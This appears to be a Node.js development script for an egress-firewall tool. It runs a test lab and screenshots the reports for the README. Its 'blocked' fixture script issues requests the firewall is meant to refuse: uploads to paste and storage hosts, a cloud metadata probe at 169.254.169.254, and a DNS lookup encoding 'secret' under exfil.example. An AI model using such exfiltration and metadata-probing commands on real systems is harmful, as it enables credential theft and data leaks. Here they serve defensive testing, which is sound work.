// Two steps behind the real firewall → the pictures of the README: one that was refused twelve hosts, one that was
// refused nothing. A tool for development: it starts the lab, so it needs root; and what docs/screenshot.mjs wants.
// usage: node docs/pictures.mjs [FOLDER]
import {execFileSync} from 'node:child_process';
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {fileURLToPath} from 'node:url';
import path from 'node:path';
import '../__tests__/lab/typescript.mjs';

const at = file => import(new URL(`../__tests__/lab/${file}`, import.meta.url).href);
const [{startLab}, {removeLab}, {runStep}] = await Promise.all(['lab.ts', 'sweep.ts', 'step.ts'].map(at));
const here = file => fileURLToPath(new URL(file, import.meta.url));
const into = process.argv[2] ?? here('.');

const BLOCKED = `
get() { curl --silent --show-error --output /dev/null --max-time 5 "$@" || true; }
get https://allowed.test/
get https://registry.example/left-pad
python3 -c 'import urllib.request as u
for path in range(3):
  try: u.urlopen("https://api.statsig.com/v1/log_event")
  except OSError: pass'
get https://o1158394.ingest.sentry.io/api/1/envelope/
node -e 'fetch("https://updates.tool.example/latest.json").catch(() => 0)'
get http://plain.example/motd
get https://gist.github.com/
get https://bucket.s3.amazonaws.com/upload
get https://tracker.example:8443/
get https://paste.rs/
sleep 0.3
get --noproxy '*' https://one.example/
get --noproxy '*' https://two.example/
get --noproxy '*' http://three.example/
get --noproxy "*" http://169.254.169.254/latest/meta-data/
node -e 'require("dns").resolve4("c2VjcmV0.exfil.example", () => 0)'
get https://allowed.test/bytes?n=300000
exit 0
`;
const QUIET = `
curl --silent --output /dev/null https://allowed.test/
curl --silent --output /dev/null https://allowed.test/bytes?n=2000000
`;

const lab = await startLab();
const folder = mkdtempSync(path.join(tmpdir(), 'pictures-'));
process.once('exit', () => {
  removeLab(lab);
  rmSync(folder, {recursive: true, force: true});
});
for (const [name, run, lines] of [
  ['blocked', BLOCKED, 'allowed.test\ndocs.example'],
  ['quiet', QUIET, 'allowed.test']
]) {
  const {summary, outputs, code, log} = await runStep(lab, {
    inputs: {run, 'allowed-domains': lines, label: name === 'blocked' ? 'make release' : 'npm test'}
  });
  if (code !== 0) throw new Error(`The step ended with ${code}: ${log}`);
  const markdown = path.join(folder, `${name}.md`);
  writeFileSync(markdown, summary);
  picture(markdown, `summary-${name}.png`);
  if (name === 'blocked') picture(outputs['report-html'], 'report-page.png');
}

process.exit(); // the engine's and the servers' pipes would keep it for good

function picture(from, to) {
  execFileSync(process.execPath, [here('screenshot.mjs'), from, path.join(into, to)], {stdio: 'inherit'});
}
